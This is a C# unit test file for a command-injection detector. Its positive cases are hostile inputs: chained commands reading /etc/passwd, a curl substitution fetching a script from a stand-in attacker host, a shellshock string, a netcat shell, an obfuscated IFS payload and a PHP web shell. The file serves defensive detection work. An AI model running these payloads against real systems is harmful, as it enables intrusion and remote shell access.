using Vigil.Detection.Injection;
using Vigil.Detection.Injection.Command;

namespace Vigil.Detection.Tests.Injection.Command;

public sealed class CommandInjectionDetectorTests
{
    [Theory]
    [InlineData("; cat /etc/passwd", "command-chain")]
    [InlineData("| id", "command-chain")]
    [InlineData("x && ping -c 10 127.0.0.1", "command-chain")]
    [InlineData("127.0.0.1; whoami", "command-chain")]
    [InlineData("& dir", "command-chain")]
    [InlineData("| type C:\\boot.ini", "command-chain")]
    [InlineData("'; sleep 5", "command-chain")]
    [InlineData("x;c'a't${IFS}/etc/passwd", "command-chain")] // quotes vanish, $IFS is a space
    [InlineData("a\n/usr/bin/id", "command-chain")]
    [InlineData("|| /bin/ls -la", "command-chain")]
    [InlineData("`whoami`", "command-substitution")]
    [InlineData("name=`id`", "command-substitution")]
    [InlineData("$(curl http://evil.example/x.sh)", "command-substitution")]
    [InlineData("() { :;}; /bin/bash -c 'id'", "shellshock")]
    [InlineData("ls -la /var/www", "shell-command")]
    [InlineData("nc -lvvp 4444 -e /bin/sh", "shell-command")]
    [InlineData("system('id')", "code-execution")]
    [InlineData("<?php system($_GET['c']); ?>", "code-execution")]
    public void Detects(string value, string reason)
    {
        InjectionVerdict verdict = CommandInjectionDetector.Analyze(value);
        Assert.True(verdict.IsAttack, $"missed: {value}");
        Assert.Equal(InjectionKind.Command, verdict.Kind);
        Assert.Equal(reason, verdict.Reason);
    }

    [Theory]
    [InlineData("drop me a line; update your address")]
    [InlineData("salt & pepper; cat food")]
    [InlineData("Tom & Jerry")]
    [InlineData("R&D | Marketing")]
    [InlineData("echo in the mirror")]
    [InlineData("curl and divergence")]
    [InlineData("bash away in the gym")]
    [InlineData("zsh is the best!")]
    [InlineData("ls 300 lexus")]
    [InlineData("nc 8000 controller")]
    [InlineData("exec noun")]
    [InlineData("Long day; sleep 8 hours tonight")]
    [InlineData("find / replace")]
    [InlineData("run `ls -la` to list files")] // markdown code, not a substitution
    [InlineData("$(document).ready(init)")]
    [InlineData("Apt is gated; call when you get here")]
    [InlineData("our system(s) are down")]
    [InlineData("AT&T")]
    public void StaysQuietOnOrdinaryText(string value)
    {
        Assert.Equal(InjectionVerdict.Clean, CommandInjectionDetector.Analyze(value));
    }
}
